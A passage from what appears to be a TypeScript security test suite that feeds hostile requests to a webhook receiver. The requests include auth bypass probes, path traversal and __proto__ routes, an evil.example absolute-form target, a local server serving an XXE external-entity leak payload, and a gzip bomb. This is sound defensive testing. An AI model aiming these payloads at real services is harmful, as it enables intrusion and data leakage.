          ['a negative 20-digit integer', ',"Size":-12345678901234567890', { Size: '-12345678901234567890' }],
          [
            '1e400 and -1E+400 (overflow to Infinity)',
            ',"Big":1e400,"Neg":-1E+400',
            { Big: '1e400', Neg: '-1E+400' },
          ],
          ['a 100-digit integer', `,"Size":1${'2'.repeat(99)}`, { Size: `1${'2'.repeat(99)}` }],
          [
            'inexact integers inside an array',
            ',"Sizes":[9007199254740993,1,0.5]',
            { Sizes: ['9007199254740993', 1, 0.5] },
          ],
          [
            'safe integers and short decimals stay numbers',
            ',"Max":9007199254740991,"Tenth":0.1,"Neg":-42',
            { Max: 9007199254740991, Tenth: 0.1, Neg: -42 },
          ],
          [
            'digit strings and escaped quotes stay strings as sent',
            ',"S1":"9007199254740993","S2":"1e400","S3":"0042","S4":"a\\\\","S5":"x\\"12345678901234567890\\"","N":12345678901234567890',
            {
              S1: '9007199254740993',
              S2: '1e400',
              S3: '0042',
              S4: 'a\\',
              S5: 'x"12345678901234567890"',
              N: '12345678901234567890',
            },
          ],
          [
            'a decimal with 19 significant digits',
            ',"Size":12345678901234567.25',
            { Size: '12345678901234567.25' },
          ],
          ['an underflowing 1e-400', ',"Tiny":1e-400', { Tiny: '1e-400' }],
          [
            'an integer written with an exponent, 1234567890123456789e0',
            ',"Size":1234567890123456789e0',
            { Size: '1234567890123456789e0' },
          ],
        ] as const
      ).map(
        ([name, jobs, want, bug]: readonly [
          string,
          string,
          Readonly<Record<string, unknown>>,
          string?,
        ]): Case => ({
          name: `JSON ${name}: stored with exact values in detail`,
          send: authed(CI, ciJson(uid('num'), { jobs })),
          expect: 200,
          stores: 'event',
          check: storedCi((event, { expect }) => {
            const jd = jobsDetail(event);
            for (const [key, value] of Object.entries(want)) expect(jd[key], key).toStrictEqual(value);
          }),
          ...(bug === undefined ? {} : { bug }),
        }),
      ),
      {
        name: 'XML numbers are strings exactly as sent: stored',
        send: authed(
          CI,
          ciXml(uid('num'), { jobs: '<Size>12345678901234567890</Size><Code2>0042</Code2><Exp>1e400</Exp>' }),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) =>
          expect(jobsDetail(event)).toMatchObject({
            Size: '12345678901234567890',
            Code2: '0042',
            Exp: '1e400',
          }),
        ),
      },
      {
        name: 'a TDMQ msgBody with a 20-digit number: exact in detail',
        send: authed(
          TDMQ,
          tdmqEnvelope(
            ciJson(uid('num'), { jobs: ',"Size":12345678901234567890' }),
            '"Seq":98765432109876543210,',
          ),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi((event, { expect }) => expect(jobsDetail(event).Size).toBe('12345678901234567890')),
      },
      {
        name: 'a Qiniu notification with a 20-digit fsize: exact in detail',
        send: authed(
          QINIU,
          `{"id":"z0.${uid('num')}","pipeline":"p","code":0,"desc":"ok","inputBucket":"b","inputKey":"k.mp4","items":[{"cmd":"avthumb/mp4","code":0,"desc":"ok","key":"out.mp4","fsize":12345678901234567890,"hash":"h"}]}`,
        ),
        expect: 200,
        stores: 'event',
        check: ({ expect, events }) => {
          expect(events).toHaveLength(1);
          expect(events[0]?.type).toBe('qiniu.pfop.succeeded');
          const detail: unknown = events[0]?.data.detail;
          const items = isRecord(detail) && Array.isArray(detail.items) ? (detail.items as unknown[]) : [];
          expect(ownValue(items[0], 'fsize')).toBe('12345678901234567890');
        },
      },
    ],
  },
  {
    name: 'authentication',
    cases: [
      ...(
        [
          ['no token anywhere', CI, {}],
          [
            'a wrong query token is not rescued by a right X-Jobhook-Token',
            `${CI}?token=wrong`,
            { 'X-Jobhook-Token': T },
          ],
          ['a 10 KB token in X-Jobhook-Token', CI, { 'X-Jobhook-Token': 't'.repeat(10_000) }],
          ['the token followed by %00 in the query', `${CI}?token=${T}%00`, {}],
          [
            'Authorization: Basic with the token as password',
            CI,
            { Authorization: `Basic ${Buffer.from(`u:${T}`).toString('base64')}` },
          ],
          ['Authorization: Bearer with nothing after it', CI, { Authorization: 'Bearer ' }],
          ['Authorization: Bearer xx<token>', CI, { Authorization: `Bearer xx${T}` }],
          [
            'Authorization: QBox without Qiniu keys or a token',
            CI,
            { Authorization: 'QBox ak:c2lnbmF0dXJl' },
          ],
          ['a prefix of the token', `${CI}?token=${T.slice(0, -1)}`, {}],
          ['the token plus a trailing %20', `${CI}?token=${T}%20`, {}],
          ['the token in a Cookie', CI, { Cookie: `token=${T}` }],
          ['?token=wrong&token=<right>', `${CI}?token=wrong&token=${T}`, {}],
          [
            'X-Jobhook-Token sent twice (joined into "t, t")',
            CI,
            {},
            `X-Jobhook-Token: ${T}\r\nX-Jobhook-Token: ${T}\r\n`,
          ],
        ] as const
      ).map(
        ([name, target, headers, raw]: readonly [
          string,
          string,
          Readonly<Record<string, string>>,
          string?,
        ]): Case => ({
          name,
          send: post(target, ciXml(uid('auth')), { headers, ...(raw === undefined ? {} : { raw }) }),
          expect: 401,
          expectCode: 'Unauthorized',
        }),
      ),
      {
        name: 'the token in the URL fragment',
        send: post(`${CI}#token=${T}`, ciXml(uid('auth'))),
        expect: 401,
        expectCode: 'Unauthorized',
      },
      {
        name: 'the token with a raw NUL in X-Jobhook-Token',
        send: post(CI, ciXml(uid('auth')), { raw: `X-Jobhook-Token: ${T}\0\r\n` }),
        expect: 400,
      },
      {
        name: 'the token in the query, the header and Bearer at once: stored',
        send: authed(CI, ciXml(uid('auth')), {
          headers: { 'X-Jobhook-Token': T, Authorization: `Bearer ${T}` },
        }),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'an empty ?token= and a valid Bearer: stored',
        send: post(`${CI}?token=`, ciXml(uid('auth')), { headers: { Authorization: `Bearer ${T}` } }),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'a mixed-case "bEaReR" scheme: stored',
        send: post(CI, ciXml(uid('auth')), { headers: { authorization: `bEaReR ${T}` } }),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
      {
        name: 'the token percent-encoded byte by byte in the query: stored',
        send: post(
          `${CI}?token=${[...Buffer.from(T)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`,
          ciXml(uid('auth')),
        ),
        expect: 200,
        stores: 'event',
        check: storedCi(),
      },
    ],
  },
  {
    name: 'routes',
    cases: [
      {
        name: '//v1/callbacks',
        send: post(withToken('//v1/callbacks'), '[]'),
        expect: 404,
        expectCode: 'NotFound',
      },
      {
        name: 'POST /v1/callbacks/../healthz',
        send: post(withToken('/v1/callbacks/../healthz'), '[]'),
        expect: 404,
        expectCode: 'NotFound',
      },
      {
        name: 'GET /v1/callbacks/../../healthz is /healthz once normalized',
        send: http('GET', '/v1/callbacks/../../healthz'),
        expect: 200,
      },
      {
        name: '/v1/callbacks/%74encent-ci is percent-decoded to tencent-ci',
        send: post(withToken('/v1/callbacks/%74encent-ci'), '[]'),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      ...(
        [
          ['a trailing slash', '/v1/callbacks/tencent-ci/'],
          ['an empty route name', '/v1/callbacks/'],
          ['an upper-case route name', '/v1/callbacks/TENCENT-CI'],
          ['an encoded slash and dot segments in the route name', '/v1/callbacks/tencent-ci%2F..%2Fqiniu'],
          ['the route name __proto__', '/v1/callbacks/__proto__'],
          ['the route name constructor', '/v1/callbacks/constructor'],
          ['a ;matrix parameter', '/v1/callbacks/tencent-ci;jsessionid=1'],
          ['an encoded NUL as the route name', '/v1/callbacks/%00'],
          ['broken percent-encoding', '/v1/callbacks/%E0%A4%A'],
          ['an extra path segment', '/v1/callbacks/tencent-ci/extra'],
          ['an upper-case prefix', '/V1/CALLBACKS'],
          ['POST /metrics', '/metrics'],
        ] as const
      ).map(([name, path]): Case => ({
        name,
        send: post(withToken(path), '[]'),
        expect: 404,
        expectCode: 'NotFound',
      })),
      {
        name: 'a 10 000-character route name: 404 with a bounded message',
        send: post(withToken(`/v1/callbacks/${'r'.repeat(10_000)}`), '[]'),
        expect: 404,
        expectCode: 'NotFound',
        check: ({ expect, json }) => expect(JSON.stringify(json).length).toBeLessThan(300),
      },
      {
        name: '/v1/./callbacks/tencent-ci (a dot segment) reaches the route',
        send: post(withToken('/v1/./callbacks/tencent-ci'), '[]'),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'an absolute-form target naming another host is handled as its path',
        send: post(`http://evil.example${withToken(CI)}`, '[]'),
        expect: 415,
        expectCode: 'UnsupportedBody',
      },
      {
        name: 'GET on a callback route',
        send: http('GET', withToken(CI)),
        expect: 405,
        expectCode: 'MethodNotAllowed',
      },
      {
        name: 'DELETE /v1/callbacks',
        send: http('DELETE', withToken(AUTO)),
        expect: 405,
        expectCode: 'MethodNotAllowed',
      },
    ],
  },
];

// ---------------------------------------------------------------------------------------------------------------
// running a case

const ALL_CASES = CATEGORIES.flatMap((c) => c.cases);

interface CategoryReport {
  cases: number;
  readonly statuses: Map<number, number>;
  rssBefore: number;
  rssAfter: number;
  ms: number;
}
const reports = new Map<string, CategoryReport>();

const known = { events: new Set<string>(), quarantine: new Set<string>() };
const ALL_STATES: JobType[] = [
  'wait',
  'active',
  'completed',
  'failed',
  'delayed',
  'prioritized',
  'waiting-children',
];

async function storedIds(): Promise<{ events: string[]; quarantine: string[] }> {
  const [events, quarantine] = await Promise.all([
    eventsQueue.getRanges(ALL_STATES, 0, -1),
    quarantineQueue.getRanges(ALL_STATES, 0, -1),
  ]);
  return { events: [...new Set(events)], quarantine: [...new Set(quarantine)] };
}

const isPolluted = (): boolean => {
  const probe: Record<string, unknown> = {};
  return (
    probe.polluted !== undefined ||
    Object.hasOwn(Object.prototype, 'polluted') ||
    probe.EventName !== undefined
  );
};

function parseJson(response: RawResponse | undefined): unknown {
  if (response === undefined || !(response.headers['content-type'] ?? '').includes('json')) return undefined;
  try {
    return JSON.parse(response.body.toString('utf8')) as unknown;
  } catch {
    return undefined;
  }
}

async function timedHealth(): Promise<{ status: number; ms: number }> {
  const started = performance.now();
  const status = await freshGet(port, '/healthz');
  return { status, ms: performance.now() - started };
}

const mb = (bytes: number): string => (bytes / MB).toFixed(1);

async function runCase(category: string, c: Case, expect: ExpectStatic): Promise<void> {
  let health: Promise<{ status: number; ms: number }> | undefined;
  const outcome = await rawExchange(port, c.send, {
    responses: c.statuses?.length ?? 1,
    timeoutMs: c.timeoutMs ?? 20_000,
    onStarted: () => {
      health ??= timedHealth();
    },
  });
  const healthz = await (health ?? timedHealth());
  const first = outcome.responses[0];
  const json = parseJson(first);
  const error = isRecord(json) && isRecord(json.error) ? json.error : undefined;
  const statuses = outcome.responses.map((r) => r.status);
  const report = reports.get(category);
  for (const status of statuses.length === 0 ? [0] : statuses)
    report?.statuses.set(status, (report.statuses.get(status) ?? 0) + 1);
  console.log(
    `[hostile-suite] ${category} / ${c.name}: ${statuses.length === 0 ? 'closed without an answer' : statuses.join(',')}` +
      `${typeof error?.code === 'string' ? ` ${error.code}` : ''} in ${outcome.totalMs.toFixed(0)} ms` +
      ` (sent ${outcome.bytesSent} B; concurrent GET /healthz ${healthz.status} in ${healthz.ms.toFixed(0)} ms;` +
      ` RSS ${mb(process.memoryUsage().rss)} MB)`,
  );

  // Storage is read first: the service stores before it answers, so this is the state the answer speaks for.
  const now = await storedIds();
  const newEvents = now.events.filter((id) => !known.events.has(id));
  const newQuarantine = now.quarantine.filter((id) => !known.quarantine.has(id));
  try {
    const shown = `${c.name}: ${first === undefined ? 'no answer' : `${first.status} ${first.body.toString('utf8').slice(0, 300)}`}`;
    expect(first?.status ?? 0, shown).toBe(c.expect);
    if (c.statuses !== undefined) expect(statuses, shown).toEqual(c.statuses);
    if (c.expectCode !== undefined) {
      expect(error?.code, shown).toBe(c.expectCode);
      expect(typeof error?.requestId).toBe('string');
    }
    expect(healthz.status, 'GET /healthz issued while the attack ran').toBe(200);
    expect(isPolluted(), 'Object.prototype polluted').toBe(false);

    // Nothing stored for a refusal; exactly this case's event(s) or quarantine entry for a 200.
    if (c.stores === 'event') {
      const answered = isRecord(json) && Array.isArray(json.events) ? (json.events as unknown[]) : [];
      const ids = answered.flatMap((e) => (isRecord(e) && typeof e.id === 'string' ? [e.id] : []));
      expect(ids.length, 'events in the answer').toBeGreaterThan(0);
      expect(answered.every((e) => isRecord(e) && e.duplicate === false)).toBe(true);
      expect([...newEvents].sort(), 'jobhook-events gained exactly the answered events').toEqual(
        [...ids].sort(),
      );
      expect(newQuarantine, 'jobhook-quarantine unchanged').toEqual([]);
    } else if (c.stores === 'quarantine') {
      expect(isRecord(json) && json.quarantined === true, 'answered quarantined').toBe(true);
      expect(newEvents, 'jobhook-events unchanged').toEqual([]);
      expect(newQuarantine, 'jobhook-quarantine gained one entry').toHaveLength(1);
    } else {
      expect(newEvents, 'jobhook-events unchanged').toEqual([]);
      expect(newQuarantine, 'jobhook-quarantine unchanged').toEqual([]);
    }

    const events: JobhookEvent[] = [];
    for (const id of newEvents) {
      const job = await eventsQueue.getJob(id);
      const event = job?.data as JobhookEvent | undefined;
      expect(CloudEvent.safeParse(event).success, `stored event ${id} is a valid CloudEvent`).toBe(true);
      if (event !== undefined) events.push(event);
    }
    const quarantined: QuarantineEntry[] = [];
    for (const id of newQuarantine) {
      const job = await quarantineQueue.getJob(id);
      if (job !== undefined) quarantined.push(job.data as QuarantineEntry);
    }
    await c.check?.({ expect, outcome, json, events, quarantined });
  } finally {
    // A 200 case (or a known bug, whatever it stored) moves the baseline; refusals never do, so a refusal that
    // stored something fails this case and every refusal checked after it.
    if (c.stores !== undefined || c.bug !== undefined) {
      for (const id of now.events) known.events.add(id);
      for (const id of now.quarantine) known.quarantine.add(id);
    }
  }
}

// ---------------------------------------------------------------------------------------------------------------

beforeAll(async () => {
  attacker = createServer((_req, res) => {
    attackerHits++;
    res.end('<!ENTITY % send "<!ENTITY leak SYSTEM \'http://127.0.0.1:1/x\'>">');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  redis = await RedisServer.start();
  jobhook = await startJobhook(redis, { JOBHOOK_REQUEST_TIMEOUT_MS: '2000' });
  port = jobhook.service.port ?? 0;
  // Built now, not while its case runs: computing its CRC would hold up the concurrent GET /healthz.
  zerosBomb('gzip', 1024);
  const connection = { host: '127.0.0.1', port: redis.port };
  eventsQueue = new Queue(EVENTS_QUEUE, { connection });
  quarantineQueue = new Queue(QUARANTINE_QUEUE, { connection });
  const ids = await storedIds();
  for (const id of ids.events) known.events.add(id);
  for (const id of ids.quarantine) known.quarantine.add(id);
  collect.run();
  rssBefore = process.memoryUsage().rss;
  console.log(
    `[hostile-suite] ${ALL_CASES.length} cases in ${CATEGORIES.length} categories; RSS before: ${mb(rssBefore)} MB` +
      ` (${collect.how})`,
  );
});

afterAll(async () => {
  const leftover = destroyOpenSockets();
  const rows = [...reports].map(
    ([name, r]) =>
      `| ${name} | ${r.cases} | ${[...r.statuses]
        .sort(([a], [b]) => a - b)
        .map(([s, n]) => `${s === 0 ? 'closed' : s}×${n}`)
        .join(' ')} | ${mb(r.rssBefore)} | ${mb(r.rssAfter)} | ${(r.ms / 1000).toFixed(1)} |`,
  );
  console.log(
    [
      `[hostile-suite] ${ALL_CASES.length} cases; RSS before the suite ${mb(rssBefore)} MB, bound ${mb(rssBefore + RSS_BOUND)} MB; sockets left open: ${leftover}`,
      '| category | cases | statuses seen | RSS before (MB) | RSS after (MB) | wall (s) |',
      '|---|---|---|---|---|---|',
      ...rows,
      ...ALL_CASES.filter((c) => c.bug !== undefined).map(
        (c) => `[hostile-suite] known bug: ${c.name}: ${c.bug ?? ''}`,
      ),
    ].join('\n'),
  );
  await eventsQueue?.close();
  await quarantineQueue?.close();
  await jobhook?.stop();
  await redis?.stop();
  await new Promise((resolve) => attacker?.close(resolve));
});

it(`the table holds at least 110 distinct cases (${ALL_CASES.length})`, ({ expect }) => {
  console.log(`[hostile-suite] case count: ${ALL_CASES.length}`);
  expect(ALL_CASES.length).toBeGreaterThanOrEqual(110);
  expect(new Set(ALL_CASES.map((c) => c.name)).size).toBe(ALL_CASES.length);
  // Failed authentications from one address are limited (JOBHOOK_AUTH_FAILURES_PER_MINUTE, burst 30): stay under.
  expect(ALL_CASES.filter((c) => c.expect === 401).length).toBeLessThan(30);
});

for (const category of CATEGORIES) {
  describe(category.name, () => {
    const started = { at: 0 };
    beforeAll(() => {
      collect.run();
      reports.set(category.name, {
        cases: category.cases.length,
        statuses: new Map(),
        rssBefore: process.memoryUsage().rss,
        rssAfter: 0,
        ms: 0,
      });
      started.at = performance.now();
    });

    // Refusals run concurrently (vitest runs at most 5 at a time); 200s, known bugs and memory-heavy categories
    // one at a time, after them.
    const sequential = (c: Case): boolean =>
      category.serial === true || c.stores !== undefined || c.bug !== undefined;
    const ordered = [...category.cases.filter((c) => !sequential(c)), ...category.cases.filter(sequential)];
    for (const c of ordered) {
      const timeout = (c.timeoutMs ?? 20_000) + 10_000;
      const run = ({ expect }: { expect: ExpectStatic }): Promise<void> => runCase(category.name, c, expect);
      if (c.bug !== undefined) {
        // Known bug in src/ (see `bug`): the assertions describe the correct behaviour, so this run fails today.
        it.fails(`${c.name} [known bug]`, run, timeout);
      } else if (sequential(c)) it(c.name, run, timeout);
      else it.concurrent(c.name, run, timeout);
    }

    it(`RSS after "${category.name}" stays below the suite's start + 200 MB`, ({ expect }) => {
      collect.run();
      const rss = process.memoryUsage().rss;
      const report = reports.get(category.name);
      if (report !== undefined) {
        report.rssAfter = rss;
        report.ms = performance.now() - started.at;
      }
      console.log(
        `[hostile-suite] RSS after ${category.name}: ${mb(rss)} MB (category start ${mb(report?.rssBefore ?? 0)} MB, suite start ${mb(rssBefore)} MB)`,
      );
      expect(rss).toBeLessThan(rssBefore + RSS_BOUND);
    });
  });
}
